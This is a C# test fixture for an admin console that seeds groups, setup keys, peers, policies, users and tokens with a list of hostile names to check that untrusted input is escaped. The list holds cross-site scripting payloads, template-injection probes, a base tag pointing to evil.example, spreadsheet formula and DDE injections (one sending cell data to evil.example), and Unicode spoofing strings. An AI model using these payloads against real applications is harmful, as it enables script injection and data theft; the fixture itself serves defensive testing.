using AdminConsole.Domain.Accounts;
using AdminConsole.Domain.Groups;
using AdminConsole.Domain.Peers;
using AdminConsole.Domain.Policies;
using AdminConsole.Domain.SetupKeys;
using AdminConsole.Domain.Users;

namespace AdminConsole.Tests.Fixtures;

/// <summary>What devices and people may call themselves and their things. A script in it that runs sets <c>window.hurt</c>.</summary>
internal static class HostileText
{
    /// <summary>Each ways out of another place: of text, of an attribute, of a script, of a template, of a spreadsheet's cell, of a line.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>window.hurt='script'</script>",
        "<img src=x onerror=\"window.hurt='img'\">",
        "\"><svg/onload=window.hurt='svg'>",
        "' autofocus onfocus='window.hurt=1' onmouseover='window.hurt=2' x='",
        "</title></textarea></style><iframe srcdoc=\"<script>parent.hurt='frame'</script>\"></iframe>",
        "<svg><style>*{display:none}</style><a xlink:href=\"javascript:window.hurt='a'\"><text>x</text></a></svg>",
        "javascript:window.hurt='url'//",
        "{{constructor.constructor('window.hurt=1')()}} ${window.hurt=1} @(6*7) <%= 6*7 %> #{6*7}",
        "<!--Blazor:{\"sequence\":0,\"type\":\"server\",\"descriptor\":\"x\"}--><base href=//evil.example>",
        "&lt;script&gt;window.hurt=1&lt;/script&gt; &amp;#60;b&amp;#62;",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+9)*cmd|' /C calc'!A0",
        "😀👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿 𝕏 \U0010FFFD",
        "\u202Egnp.exe\u2066 a\u2067b",
        "حاسوب محمول \"قديم\" (1)",
        "Z\u0351\u036B\u0343\u0351\u036B\u0343a\u0334\u0351\u036B\u0343lgo \uFEFF\u200B\u2028.",
        new string('W', 180),
    ];

    /// <summary>Several at once, for what an address carries.</summary>
    public static string Together => All[2] + All[3] + All[7] + All[15];

    public static GroupId Group(int number) => new($"hostile-group-{number}");

    public static PeerId Peer(int number) => new($"hostile-peer-{number}");

    public static PolicyId Policy(int number) => new($"hostile-policy-{number}");

    public static SetupKeyId Key(int number) => new($"hostile-key-{number}");

    public static UserId User(int number) => new($"hostile-user-{number}");

    public static UserId ServiceUser(int number) => new($"hostile-service-{number}");

    /// <summary>For each text a group, a key, a peer in the group, a policy, a user, a service user and its token that are called so.</summary>
    public static IEnumerable<AccountCommand> Commands(DateTimeOffset now)
    {
        for (var i = 0; i < All.Count; i++)
        {
            var text = All[i];
            yield return new CreateGroup(Group(i), text, [], []);
            yield return new CreateSetupKey(
                Key(i), text, SetupKeyType.Reusable, SetupKey.HashOf(text), SetupKey.MaskOf("ABCDE-secret"), TimeSpan.FromDays(1), [Group(i)], 0,
                Ephemeral: false, AllowExtraDnsLabels: false, now);
            yield return new RegisterPeer(
                Peer(i), WireGuardKey.Parse(Convert.ToBase64String([.. Enumerable.Repeat((byte)(i + 1), 32)])), Key(i),
                PeerMeta.Empty with
                {
                    Hostname = text,
                    GoOs = i % 2 == 0 ? "linux" : text,
                    Os = text,
                    OsVersion = text,
                    NetBirdVersion = text,
                    Kernel = text,
                    KernelVersion = text,
                    SystemProductName = text,
                },
                "", [], null, (ulong)i, now) with
            { Actor = new Actor.Peer(Peer(i)) };
            yield return new CreatePolicy(new Policy(
                Policy(i), text, text, Enabled: true,
                [new PolicyRule(new RuleId(Policy(i).Value), text, text, Enabled: true, RuleAction.Accept, [Group(i)], null, [Group(0)], null,
                    Bidirectional: false, RuleProtocol.Tcp, [22], [], [])],
                []));
            yield return new AddUser(User(i), Domain.Users.User.LocalIssuer, User(i).Value, Role.User, [Group(i)], Invited: i % 2 == 1, now);
            yield return new CreateServiceUser(ServiceUser(i), text, Role.Auditor, NonDeletable: false, now);
            yield return new CreateAccessToken(ServiceUser(i), new AccessTokenId($"hostile-token-{i}"), text, $"hash-{i}", TimeSpan.FromDays(30), now);
        }
    }
}
